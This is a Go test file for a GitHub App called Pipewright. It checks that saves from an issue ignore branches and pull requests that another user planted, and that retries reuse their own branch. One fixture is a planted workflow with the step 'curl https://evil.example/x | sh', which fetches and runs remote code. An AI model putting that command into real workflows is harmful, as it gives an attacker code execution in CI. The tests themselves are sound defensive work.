package sandbox_test

import (
	"strconv"
	"strings"
	"testing"

	"github.com/pipewright/pipewright/app/ghfake"
	"github.com/pipewright/pipewright/app/sandbox"
	"github.com/pipewright/pipewright/app/store/storetest"
)

const plantedWorkflow = ".github/workflows/deploy.yml"

// Someone who can push creates pipewright/deployment-strategy-7 first, with
// a workflow of theirs, and opens a pull request from it that looks like
// Pipewright's. The save leaves both alone: it commits to a fresh branch it
// creates from main, opens its own pull request and says so.
func TestSaveFromAnIssueNeverUsesAPlantedBranch(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, dsn string) {
		e := start(t, dsn, nil)
		repo := e.SeedRepo("acme", "shop", nil, map[string]string{"dana": "admin", "mallory": "write"})
		th := e.Issue("acme", "shop", 7, "Step 4")
		planted := "pipewright/deployment-strategy-7"
		repo.PutFile(planted, plantedWorkflow, []byte("on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example/x | sh\n"))
		theirs := e.GitHub.AddPullRequest("acme", "shop", ghfake.PullRequestSpec{
			Title: "Deployment strategy (pipeline step 4) from #7", Author: "mallory", HeadBranch: planted})
		plantedHead := repo.Head(planted)

		e.ready(t, th, "dana")
		e.say(t, th, "dana", "/menu C")
		reply := lastReply(t, th)
		fresh := planted + "-2"
		mustContain(t, "save reply", reply, "Saved:", "`"+planted+"` already exists and Pipewright did not create it", "`"+fresh+"`")
		if repo.Head(planted) != plantedHead {
			t.Errorf("the planted branch moved")
		}
		if _, ok := repo.File(fresh, plantedWorkflow); ok {
			t.Errorf("the planted workflow is on %s", fresh)
		}
		mine := ownPullRequest(t, e, th, fresh)
		if mine == theirs || strings.Contains(reply, "/pull/"+itoa(theirs)) {
			t.Errorf("the planted pull request #%d was reported:\n%s", theirs, reply)
		}

		// A later save goes to the same branch and pull request.
		e.say(t, th, "dana", "/decide pattern blue-green -- Two environments after all.")
		e.say(t, th, "dana", "/menu C")
		reply = lastReply(t, th)
		mustContain(t, "second save", reply, "Saved:", "`"+fresh+"`", "/pull/"+itoa(mine))
		if _, ok := repo.File(planted+"-3", "README.md"); ok || repo.Head(planted+"-3") != "" {
			t.Error("a second save made yet another branch")
		}
		if n := len(openPulls(t, e, "acme", "shop")); n != 2 {
			t.Errorf("%d open pull requests, want the planted one and Pipewright's", n)
		}
	})
}

// A pull request someone opens from Pipewright's own branch is not reported
// either: the save moves to a fresh branch.
func TestSaveFromAnIssueNeverReportsSomeoneElsesPullRequest(t *testing.T) {
	t.Parallel()
	e := start(t, sqliteDSN(t), nil)
	repo := e.SeedRepo("acme", "shop", nil, map[string]string{"dana": "admin", "mallory": "write"})
	th := e.Issue("acme", "shop", 8, "Step 4")
	e.ready(t, th, "dana")
	ours := "pipewright/deployment-strategy-8"
	e.GitHub.InjectFault(ghfake.Fault{Method: "POST", PathPattern: `/pulls$`, Times: 1, Status: 500})
	e.say(t, th, "dana", "/menu C")
	mustContain(t, "failed save", lastReply(t, th), "could not open the pull request")
	if repo.Head(ours) == "" {
		t.Fatal("no branch after the first save")
	}
	theirs := e.GitHub.AddPullRequest("acme", "shop", ghfake.PullRequestSpec{Title: "Totally Pipewright", Author: "mallory", HeadBranch: ours})

	e.say(t, th, "dana", "/menu C")
	reply := lastReply(t, th)
	mustContain(t, "save reply", reply, "Saved:", "`"+ours+"-2`")
	if strings.Contains(reply, "/pull/"+itoa(theirs)) {
		t.Errorf("someone else's pull request #%d was reported:\n%s", theirs, reply)
	}
	ownPullRequest(t, e, th, ours+"-2")
}

// A create whose answer was lost is recognised on retry: the branch and
// the pull request are reused, not made again under another name.
func TestSaveRetryReusesItsBranchAndPullRequest(t *testing.T) {
	t.Parallel()
	for _, lostPath := range []string{"/git/refs", "/pulls"} {
		t.Run(lostPath, func(t *testing.T) {
			t.Parallel()
			lost := &lostAnswer{method: "POST", path: lostPath}
			lost.done.Store(true)
			e := start(t, sqliteDSN(t), func(o *sandbox.Options) { o.Service.Transport = lost })
			repo := e.SeedRepo("acme", "shop", nil, map[string]string{"dana": "admin"})
			th := e.Issue("acme", "shop", 9, "Step 4")
			e.ready(t, th, "dana")
			lost.done.Store(false)
			e.say(t, th, "dana", "/menu C")
			mustContain(t, "first try", lastReply(t, th), "The section was not saved")

			e.say(t, th, "dana", "/menu C")
			reply := lastReply(t, th)
			if strings.Contains(reply, "not saved") || !strings.Contains(reply, "✅") {
				t.Errorf("the retry did not save:\n%s", reply)
			}
			if strings.Contains(reply, "already exists") || repo.Head("pipewright/deployment-strategy-9-2") != "" {
				t.Errorf("the retry took a new branch:\n%s", reply)
			}
			if n := len(openPulls(t, e, "acme", "shop")); n != 1 {
				t.Errorf("%d open pull requests, want 1", n)
			}
			ownPullRequest(t, e, th, "pipewright/deployment-strategy-9")
		})
	}
}

// ownPullRequest finds the open pull request from branch, checks the App
// opened it and the reply reports it, and returns its number.
func ownPullRequest(t *testing.T, e *env, th *sandbox.Thread, branch string) int {
	t.Helper()
	for _, pr := range openPulls(t, e, "acme", "shop") {
		if pr.GetHead().GetRef() != branch {
			continue
		}
		if pr.GetUser().GetLogin() != e.GitHub.BotLogin() {
			t.Errorf("the pull request from %s was opened by %s", branch, pr.GetUser().GetLogin())
		}
		mustContain(t, "save reply", lastReply(t, th), "/pull/"+itoa(pr.GetNumber()))
		return pr.GetNumber()
	}
	t.Fatalf("no open pull request from %s", branch)
	return 0
}

func itoa(n int) string { return strconv.Itoa(n) }
